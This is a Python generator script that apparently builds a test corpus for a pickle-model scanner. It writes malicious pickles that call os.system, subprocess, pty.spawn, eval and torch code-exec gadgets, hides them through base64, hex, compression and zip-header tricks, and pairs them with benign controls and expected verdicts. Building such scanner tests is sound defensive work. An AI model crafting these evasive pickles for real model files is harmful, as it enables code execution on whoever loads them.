#!/usr/bin/python3
"""Writes lowbit's scanner attack corpus (tests/data/scan/*) and its EXPECTED.tsv.

Run with Debian's python3 (standard library only): /usr/bin/python3 tests/data/scan/make.py
The output is deterministic (fixed zip timestamps, gzip mtime 0) and committed; the suite only
reads it. Nothing here is ever unpickled: dangerous callables are stand-ins registered under the
module and qualified name CPython would write, so pickle.dumps emits the same bytes an attacker's
pickle.dumps would, without the real module being importable.

EXPECTED.tsv columns: file, verdict (malicious/suspicious/unscannable/error/clean), the finding
that must be present as ID or ID:item (or -), class, note.
"""
import base64, binascii, bz2, gzip, io, lzma, os, pickle, struct, sys, types, zipfile, zlib

OUT = os.path.dirname(os.path.abspath(__file__))
rows = []


def fake(modpath, qualname):
    """A callable that pickles as modpath + qualname (the module need not exist)."""
    parts = modpath.split(".")
    for i in range(1, len(parts) + 1):
        name = ".".join(parts[:i])
        if name not in sys.modules or not getattr(sys.modules[name], "_lowbit_fake", False):
            m = types.ModuleType(name)
            m._lowbit_fake = True
            sys.modules[name] = m
            if i > 1:
                setattr(sys.modules[".".join(parts[:i - 1])], parts[i - 1], m)
    holder = sys.modules[modpath]
    names = qualname.split(".")
    for n in names[:-1]:
        if not hasattr(holder, n):
            setattr(holder, n, type(n, (), {"__module__": modpath, "__qualname__": n}))
        holder = getattr(holder, n)

    def fn(*a, **k):
        raise RuntimeError("never called")
    fn.__module__, fn.__qualname__, fn.__name__ = modpath, qualname, names[-1]
    setattr(holder, names[-1], fn)
    return fn


class Call:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def evil(proto=4, mod="posix", name="system", arg="echo pwned"):
    return pickle.dumps(Call(fake(mod, name), (arg,)), protocol=proto)


def put(name, data, verdict, must, cls, note):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    rows.append((name, verdict, must, cls, note))


def zip_bytes(members, method=zipfile.ZIP_STORED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
            zi.compress_type = method
            z.writestr(zi, data)
    return bytearray(b.getvalue())


def set_flag_bits(z, bits):
    """OR general-purpose flag bits into every local and central header."""
    for sig, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = z.find(sig)
        while i >= 0:
            struct.pack_into("<H", z, i + at, struct.unpack_from("<H", z, i + at)[0] | bits)
            i = z.find(sig, i + 4)
    return z


def torch_zip(pkl, name="archive/data.pkl", method=zipfile.ZIP_STORED):
    return zip_bytes([(name, pkl), ("archive/version", b"3\n"), ("archive/data/0", b"\0" * 16)], method)


INNER = evil()
SYS = "PICKLE_GLOBAL:global 'posix.system'"

# ---- A: pickles hidden in another pickle's strings and bytes ----
put("nested_hex.pkl", pickle.dumps({"blob": INNER.hex()}, 4), "malicious", SYS, "A nested",
    "inner pickle as a hex str")
put("nested_hex_spaced.pkl", pickle.dumps({"blob": INNER.hex(" ")}, 4), "malicious", SYS, "A nested",
    "hex with a space between bytes (bytes.fromhex accepts it)")
put("nested_b64.pkl", pickle.dumps({"blob": base64.b64encode(INNER).decode()}, 4), "malicious", SYS, "A nested",
    "standard base64 str")
put("nested_b64url.pkl", pickle.dumps({"blob": base64.urlsafe_b64encode(evil(arg="a" * 90)).decode()}, 4),
    "malicious", SYS, "A nested", "URL-safe base64")
put("nested_b64_lines.pkl", pickle.dumps([base64.encodebytes(evil(arg="b" * 200))], 2), "malicious", SYS,
    "A nested", "base64.encodebytes: a line break every 76 characters, as bytes (protocol 2: latin-1 text)")
put("nested_zlib.pkl", pickle.dumps({"z": zlib.compress(INNER)}, 4), "malicious", SYS, "A nested", "zlib bytes")
put("nested_gzip.pkl", pickle.dumps({"z": gzip.compress(INNER, mtime=0)}, 4), "malicious", SYS, "A nested",
    "gzip bytes")
put("nested_bz2.pkl", pickle.dumps({"z": bz2.compress(INNER)}, 4), "malicious", SYS, "A nested", "bz2 bytes")
put("nested_xz.pkl", pickle.dumps({"z": lzma.compress(INNER)}, 4), "malicious", SYS, "A nested", "xz bytes")
put("nested_lzma_alone.pkl", pickle.dumps({"z": lzma.compress(INNER, format=lzma.FORMAT_ALONE)}, 4), "malicious",
    SYS, "A nested", "legacy .lzma bytes")
put("nested_b64_zlib.pkl", pickle.dumps({"z": base64.b64encode(zlib.compress(INNER)).decode()}, 4), "malicious",
    SYS, "A nested", "base64 of zlib")
put("nested_hex_gzip_b64.pkl",
    pickle.dumps({"z": base64.b64encode(gzip.compress(INNER.hex().encode(), mtime=0)).decode()}, 4),
    "malicious", SYS, "A nested", "base64 of gzip of hex: three layers")
put("nested_in_code.pkl", pickle.dumps({"code": "import pickle; pickle.loads(bytes.fromhex('%s'))" % INNER.hex()}, 4),
    "malicious", SYS, "A nested", "a hex run inside Python source text")
put("nested_b64_in_code.pkl",
    pickle.dumps(["exec(__import__('base64').b64decode('%s'))" % base64.b64encode(INNER).decode()], 0),
    "malicious", SYS, "A nested", "a base64 run inside text, protocol 0")
put("nested_proto0_bytes.pkl", pickle.dumps({"raw": evil(proto=0)}, 0), "malicious", SYS, "A nested",
    "protocol 0 outer: the inner bytes become _codecs.encode(text, 'latin1')")
put("nested_proto2_bytes.pkl", pickle.dumps({"raw": INNER}, 2), "malicious", SYS, "A nested",
    "protocol 2 outer: inner bytes as latin-1 text")
put("nested_text_inner.pkl", pickle.dumps({"t": base64.b64encode(b"cposix\nsystem\n(S'id'\ntR.").decode()}, 4),
    "malicious", SYS, "A nested", "the inner pickle is protocol 0 text, no 0x80 header")
put("nested_bytes_raw.pkl", pickle.dumps({"raw": INNER}, 4), "malicious", SYS, "A nested", "raw BINBYTES")

# ---- B/C/D: streams that break after naming a dangerous global ----
body = evil(4)[11:]          # after PROTO 4 and FRAME n
put("frame_overrun.pkl", b"\x80\x04\x95" + struct.pack("<Q", len(body) + 4096) + body, "malicious", SYS,
    "B frame", "FRAME declares 4 KiB more than the file holds")
put("frame_overrun_tail.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + body[:-3], "malicious", SYS,
    "B frame", "absurd FRAME length and a cut tail")
put("truncated_after_global.pkl", evil(4)[:-6], "malicious", SYS, "C truncated", "cut before REDUCE")
put("truncated_proto0.pkl", evil(0)[:-4], "malicious", SYS, "C truncated", "protocol 0, cut")
put("junk_after_global.pkl", evil(2)[:-3] + b"\xff\xfe\xfd" * 4, "malicious", SYS, "C truncated",
    "an invalid opcode after the call")
put("no_proto_frame.pkl", evil(4)[2:], "malicious", SYS, "D headerless", "protocol 4 without PROTO (starts with FRAME)")
put("no_proto_no_frame.pkl", evil(4)[11:], "malicious", SYS, "D headerless",
    "protocol 4 without PROTO and FRAME (starts with SHORT_BINUNICODE)")

# ---- E: zip members flagged encrypted, data in the clear ----
put("enc_flag_stored.pt", set_flag_bits(torch_zip(INNER), 1), "malicious", SYS, "E encrypted-flag",
    "bit 0 set on every member, stored")
put("enc_flag_deflated.pt", set_flag_bits(torch_zip(INNER, method=zipfile.ZIP_DEFLATED), 1), "malicious", SYS,
    "E encrypted-flag", "bit 0 set, deflated")

# ---- F: unsafe member names ----
put("zip_traversal.zip", zip_bytes([("../../evil.pkl", INNER)]), "malicious", SYS, "F unsafe-name",
    "'..' member holding a malicious pickle: both reported")
put("zip_absolute.zip", zip_bytes([("/tmp/x/data.pkl", pickle.dumps([1, 2, 3], 2))]), "malicious",
    "ZIP_UNSAFE_NAME", "F unsafe-name", "absolute path, benign content: the name alone is the attack")
put("zip_backslash.zip", zip_bytes([("..\\..\\evil.pkl", pickle.dumps({"a": 1}, 4))]), "malicious",
    "ZIP_UNSAFE_NAME", "F unsafe-name", "Windows traversal")

# ---- G: wrong CRC ----
z = torch_zip(INNER)
i = z.find(b"PK\x01\x02")
struct.pack_into("<I", z, i + 16, struct.unpack_from("<I", z, i + 16)[0] ^ 0xdeadbeef)
j = z.find(b"PK\x03\x04")
struct.pack_into("<I", z, j + 14, struct.unpack_from("<I", z, j + 14)[0] ^ 0xdeadbeef)
put("crc_bad_malicious.pt", z, "malicious", SYS, "G crc", "data.pkl CRC wrong in both headers")
pk = pickle.dumps({"w": [1, 2]}, 2)
benign_z = torch_zip(pk).replace(pk, pk.replace(b"K\x01", b"K\x03"), 1)
put("crc_bad_benign.pt", benign_z, "error", "ZIP_CRC_MISMATCH", "G crc", "benign data.pkl whose bytes changed")

# ---- H: duplicate names ----
put("zip_duplicate.pt", zip_bytes([("archive/data.pkl", pickle.dumps({"ok": 1}, 2)), ("archive/data.pkl", INNER)]),
    "malicious", SYS, "H duplicate", "two data.pkl entries, the second malicious")

# ---- I: danger-table gaps and module-object tricks ----
def global0(mod, name, arg="id"):
    return ("c%s\n%s\n(S'%s'\ntR." % (mod, name, arg)).encode()

for mod, name, note in [
    ("uuid", "_get_command_stdout", "uuid private helper runs a command"),
    ("uuid", "_popen", "uuid private helper (older Pythons)"),
    ("_osx_support", "_read_output", "runs a shell command"),
    ("_aix_support", "_read_cmd_output", "runs a shell command"),
    ("imaplib", "IMAP4_stream", "spawns a command"),
    ("pydoc", "pipepager", "pipes into a command"),
    ("nt", "system", "os alias on Windows"),
    ("posix", "system", "os alias on Linux"),
    ("sys", "modules", "sys.modules: any module object"),
    ("torch", "_utils", "the module object torch._utils itself"),
    ("numpy", "core", "the module object numpy.core"),
    ("torch._utils", "_rebuild_tensor.__globals__", "a dunder path to the module globals"),
    ("builtins", "__import__", "import by name"),
    ("weakref", "finalize", "calls a function at collection"),
    ("cgitb", "reset", "stdlib module outside os/subprocess"),
    ("linecache", "getline", "reads any file (picklescan's dns_exfiltration payload)"),
    ("tempfile", "mktemp", "modelaudit's list"),
    ("importlib", "import_module", "import by name"),
]:
    put("danger_%s_%s.pkl" % (mod.replace(".", "_"), name.replace(".", "_")), global0(mod, name), "malicious",
        "PICKLE_GLOBAL:global '%s.%s'" % (mod, name), "I danger-table", note)

memo_sg = (b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x8c\x05torch\x94\x8c\x04Size\x94"
           b"h\x00h\x01\x93\x94\x8c\x02id\x85R.")
put("stack_global_memo.pkl", memo_sg, "malicious", "PICKLE_GLOBAL:global 'os.system'", "I danger-table",
    "STACK_GLOBAL names fetched from the memo")
put("stack_global_nonstr.pkl", b"\x80\x04K*\x94\x8c\x02os\x94h\x00h\x01\x93\x94K\x01\x85R.", "malicious",
    "PICKLE_GLOBAL:global '?.?'", "I danger-table", "STACK_GLOBAL of (42, 'os'): not literal strings")

# ---- J: containers ----
put("zip_in_pickle.pkl", pickle.dumps({"archive": bytes(torch_zip(INNER))}, 4), "malicious", SYS, "J container",
    "a PyTorch zip inside a pickle's bytes")
put("zip_in_zip.zip", zip_bytes([("inner.zip", bytes(zip_bytes([("x/data.pkl", INNER)], zipfile.ZIP_DEFLATED)))]),
    "malicious", SYS, "J container", "a deflated zip stored in a zip")
legacy = bytearray(pickle.dumps(0x1950a86a20f9469cfc6c, 2) + pickle.dumps(1001, 2) + pickle.dumps({"x": 1}, 2))
legacy += INNER + pickle.dumps([], 2) + b"\0" * 64
put("legacy_third.pt", legacy, "malicious", SYS, "J container", "legacy torch.save layout, the 4th pickle malicious")
hdr = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
hdr += b" " * (63 - (10 + len(hdr)) % 64) + b"\n"
put("object_array.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr + INNER, "malicious", SYS,
    "J container", "object array whose pickle is malicious")
put("joblib_zlib.pkl", zlib.compress(INNER), "malicious", SYS, "J container", "a zlib-compressed pickle file (joblib)")
put("pickle_gz.pkl.gz", gzip.compress(INNER, mtime=0), "malicious", SYS, "J container", "a gzip-compressed pickle")
put("pickle_xz.pkl.xz", lzma.compress(INNER), "malicious", SYS, "J container", "an xz-compressed pickle")
put("zip_bzip2.zip", zip_bytes([("data.pkl", INNER)], zipfile.ZIP_BZIP2), "malicious", SYS, "J container",
    "bzip2 zip member (Python's zipfile reads it)")

# ---- K: what cannot be scanned is never clean ----
put("zip_lzma.zip", zip_bytes([("data.pkl", pickle.dumps({"a": 1}, 4))], zipfile.ZIP_LZMA), "unscannable",
    "ENTRY_NOT_SCANNED", "K unscannable", "zipfile's LZMA method: the scanner cannot decode it")
z = zip_bytes([("data.pkl", pickle.dumps({"a": 1}, 4))])
for sig, off in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
    k = z.find(sig)
    struct.pack_into("<H", z, k + off, 77)
put("zip_method77.zip", z, "unscannable", "ENTRY_NOT_SCANNED", "K unscannable", "an unknown compression method")
deep = INNER
for _ in range(12):
    deep = pickle.dumps({"next": base64.b64encode(deep).decode()}, 4)
put("nest12.pkl", deep, "suspicious", "SCAN_INCOMPLETE", "K unscannable",
    "12 pickles, each base64 in the next: past the layer limit")

# ---- L: benign controls (must stay clean) ----
import hashlib
rnd = b"".join(hashlib.sha256(bytes([i])).digest() for i in range(64))
put("benign_hash.pkl", pickle.dumps({"sha256": hashlib.sha256(b"x").hexdigest(), "md5": "d41d8cd98f00b204e9800998ecf8427e"}, 4),
    "clean", "-", "L benign", "hex digests")
put("benign_b64.pkl", pickle.dumps({"token": base64.b64encode(rnd).decode(), "u": base64.urlsafe_b64encode(rnd[:96]).decode()}, 4),
    "clean", "-", "L benign", "base64 of random bytes")
put("benign_zlib.pkl", pickle.dumps({"z": zlib.compress(b"hello world " * 50), "g": gzip.compress(b"{}" * 9, mtime=0)}, 4),
    "clean", "-", "L benign", "compressed text")
put("benign_text.pkl", pickle.dumps({"s": "café naïve résumé " * 4, "b": b"\xe9t\xe9 " * 8}, 2), "clean", "-",
    "L benign", "latin-1 text, protocol 2 bytes")
put("benign_vocab.pkl", pickle.dumps(["category", "Something", "cos", "system", "ZmFrZQ==", "deadbeefcafebabe" * 2], 4),
    "clean", "-", "L benign", "words that start like opcodes or look encoded")
put("benign_zip.zip", zip_bytes([("README.txt", b"hello\n" * 20), ("config.json", b'{"a": 1}\n')], zipfile.ZIP_DEFLATED),
    "clean", "-", "L benign", "a zip of text")

def big_npy_zip(descr, shape, itemsize):
    """An .npz member declaring more than the 1 GiB the scanner reads whole (sizes patched)."""
    h = ("{'descr': '%s', 'fortran_order': False, 'shape': (%d,), }" % (descr, shape)).encode()
    h += b" " * (63 - (10 + len(h)) % 64) + b"\n"
    head = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h
    z = zip_bytes([("a.npy", head + b"\0" * 4096)], zipfile.ZIP_DEFLATED)
    size = len(head) + shape * itemsize
    for sig, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        i = z.find(sig)
        struct.pack_into("<I", z, i + at, size)
    return z

put("benign_big_npz.npz", big_npy_zip("<f4", 1 << 29, 4), "clean", "-", "L benign",
    "a 2 GiB float32 array member: over the read limit, its header is enough")
put("big_object_npz.npz", big_npy_zip("|O", 1 << 28, 8), "unscannable", "SCAN_INCOMPLETE", "K unscannable",
    "a 2 GiB object-array member: its pickle cannot be read whole")

# ---- P: picklescan's own test files, rebuilt from tests/init_data_files.py ----
_payload = "__import__('os').system('whoami')"
PS = [  # file, module, qualified name, args, protocol
    ("ps_malicious3.pkl", "http.client", "HTTPSConnection", ("github.com",), 0),  # protocol 0 spells it httplib
    ("ps_malicious4.pickle", "requests.api", "get", ("https://github.com",), 4),
    ("ps_malicious5.pickle", "aiohttp.client", "ClientSession", (), 4),
    ("ps_malicious7.pkl", "socket", "create_connection", (("github.com", 80),), 4),
    ("ps_malicious8.pkl", "subprocess", "run", (["ls", "-l"],), 4),
    ("ps_malicious9.pkl", "sys", "exit", (0,), 4),
    ("ps_malicious13a.pkl", "pickle", "loads", (b"I12345\n.",), 0),
    ("ps_malicious14.pkl", "runpy", "_run_code", ("print('456')",), 4),
    ("ps_malicious15a.pkl", "bdb", "Bdb.run", ({}, 'import os\nos.system("whoami")'), 4),
    ("ps_malicious16.pkl", "pip", "main", (["install", "x"],), 0),
    ("ps_malicious17.pkl", "torch._inductor.codecache", "compile_file", ("", "", ["sh", "-c", "id"]), 4),
    ("ps_malicious18.pkl", "pydoc", "pipepager", ("", 'echo "pwned"'), 4),
    ("ps_malicious20.pkl", "venv", "create", ("venv", False, False, True, False, "$(echo pwned)"), 4),
    ("ps_malicious21.pkl", "timeit", "timeit", ("", _payload), 4),
    ("ps_malicious22.pkl", "numpy.testing._private.utils", "runstring", (_payload, {}), 4),
    ("ps_GHSA-4r9r-ch6f-vxmx.pkl", "torch.utils.bottleneck.__main__", "run_cprofile", (_payload, {}), 4),
    ("ps_GHSA-86cj-95qr-2p4f.pkl", "torch._dynamo.guards", "GuardBuilder.get", ({}, _payload), 4),
    ("ps_GHSA-f4x7-rfwp-v3xw.pkl", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression",
     ({}, _payload, []), 4),
    ("ps_GHSA-f745-w6jp-hpxx.pkl", "torch.utils.collect_env", "run", (_payload,), 4),
    ("ps_GHSA-h3qp-7fh3-f8h4.pkl", "torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b""), 4),
    ("ps_GHSA-vr7h-p6mm-wpmh.pkl", "torch.jit.unsupported_tensor_ops", "execWrapper", (_payload, {}, {}), 4),
    ("ps_GHSA-vv6j-3g6g-2pvj.pkl", "torch.utils._config_module", "ConfigModule.load_config", ({}, b""), 4),
    ("ps_GHSA-5qwp-399c-mjwf.pkl", "trace", "Trace.run", ({}, _payload), 4),
    ("ps_GHSA-x696-vm39-cp64.pkl", "profile", "Profile.run", ({}, _payload), 4),
    ("ps_GHSA-f54q-57x4-jg88.pkl", "lib2to3.pgen2.grammar", "Grammar.loads", ({}, b""), 4),
    ("ps_GHSA-3vg9-h568-4w9m.pkl", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, _payload), 4),
    ("ps_GHSA-cj3c-v495-4xqh.pkl", "code", "InteractiveInterpreter.runcode", ({}, _payload), 4),
    ("ps_GHSA-fqq6-7vqf-w3fg.pkl", "doctest", "debug_script", (_payload, True), 4),
    ("ps_GHSA-9w88-8rmg-7g2p.pkl", "cProfile", "runctx", (_payload, None, None), 4),
    ("ps_GHSA-xp4f-hrf8-rxw7.pkl", "ensurepip", "_run_pip", (_payload,), 4),
    ("ps_GHSA-q77w-mwjj-7mqx.pkl", "asyncio.unix_events", "_UnixSubprocessTransport._start",
     ({}, "whoami", True, None, None, None, 0), 4),
    ("ps_GHSA-m273-6v24-x4m4.pkl", "distutils.file_util", "write_file", ("pwned_config.env", ["x"]), 4),
    ("ps_GHSA-4675-36f9-wf6r.pkl", "ctypes", "CDLL", (None,), 4),
    ("ps_GHSA-vqmv-47xg-9wpr.pkl", "pty", "spawn", (["/bin/sh", "-c", "id; exit"],), 4),
    ("ps_GHSA-r8g5-cgf2-4m4m.pkl", "numpy.f2py.crackfortran", "getlincoef", (_payload, []), 4),
    ("ps_io_FileIO.pkl", "_io", "FileIO", ("/etc/hosts", "r"), 4),
    ("ps_urllib_request_urlopen.pkl", "urllib.request", "urlopen", ("https://example.invalid",), 4),
]
for fname, mod, qn, args, proto in PS:
    spelt = "httplib" if proto < 3 and mod == "http.client" else mod   # pickle's fix_imports
    put(fname, pickle.dumps(Call(fake(mod, qn), args), protocol=proto), "malicious",
        "PICKLE_GLOBAL:global '%s.%s'" % (spelt, qn), "P picklescan", "picklescan tests/init_data_files.py")
import functools
put("ps_malicious6.pkl", pickle.dumps(["a", "b", "c"]) + pickle.dumps(Call(fake("requests.api", "get"), ("https://github.com",))),
    "malicious", "PICKLE_GLOBAL:global 'requests.api.get'", "P picklescan", "malicious6.pkl: a benign pickle, then a malicious one")
put("ps_malicious19.pkl", pickle.dumps(Call(functools.partial(fake("torch", "load"), "some_other_model.bin",
                                                               pickle_file="config.json", weights_only=False), ()), 4),
    "malicious", "PICKLE_GLOBAL:global 'torch.load'", "P picklescan", "malicious19.pkl: functools.partial(torch.load, ...)")
dns = pickle.dumps(Call(fake("ssl", "get_server_certificate"), (("x.dns-logger.invalid", 443),)), 3)
put("ps_dns_exfiltration.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr + dns, "malicious",
    "PICKLE_GLOBAL:global 'ssl.get_server_certificate'", "P picklescan", "data2/dns_exfiltration.npy: object array")
put("ps_malicious23.pkl", b"S'os'\nS'system'\n\x93S'ls'\n\x85R.", "malicious", "PICKLE_GLOBAL:global 'os.system'",
    "P picklescan", "GHSA-9gvj-pp9x-gcfr: STACK_GLOBAL of protocol 0 strings, no PROTO")
put("ps_type_confusion.pkl", b"\x80\x04cos\nsystem\nVecho x\n\x85R0J*\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93K\x42.",
    "malicious", "PICKLE_GLOBAL:global 'os.system'", "P picklescan", "type-confusion-exploit.pkl")
put("ps_keyerror.pkl", b"\x80\x04cos\nsystem\nVecho x\n\x85R0\x8c\x02os\x94h\x03h\x00\x93K\x42.", "malicious",
    "PICKLE_GLOBAL:global 'os.system'", "P picklescan", "keyerror-exploit.pkl: BINGET of a missing memo key")
put("ps_malicious1_crc.zip", zip_bytes([("data.pkl", pickle.dumps(Call(eval, ("print('456')",)), 4))])
    .replace(b"print('456')", b"print('123')", 1), "malicious", "PICKLE_GLOBAL:global 'builtins.eval'", "P picklescan",
    "malicious1_crc.zip: data changed after the CRC was written")
put("ps_benign0_v0.pkl", pickle.dumps(["a", "b", "c"], 0), "clean", "-", "P picklescan", "benign0_v0")
put("ps_not_a_pickle.bin", b"cmod\n\xf8\n", "error", "WEIGHTS_MISSING", "P picklescan",
    "not_a_pickle.bin: starts like GLOBAL, invalid UTF-8: not a pickle (a .bin that holds no weights)")

with open(os.path.join(OUT, "EXPECTED.tsv"), "w") as f:
    f.write("# file\tverdict\tmust\tclass\tnote (written by make.py)\n")
    for r in rows:
        f.write("\t".join(r) + "\n")
print("%d files" % len(rows))
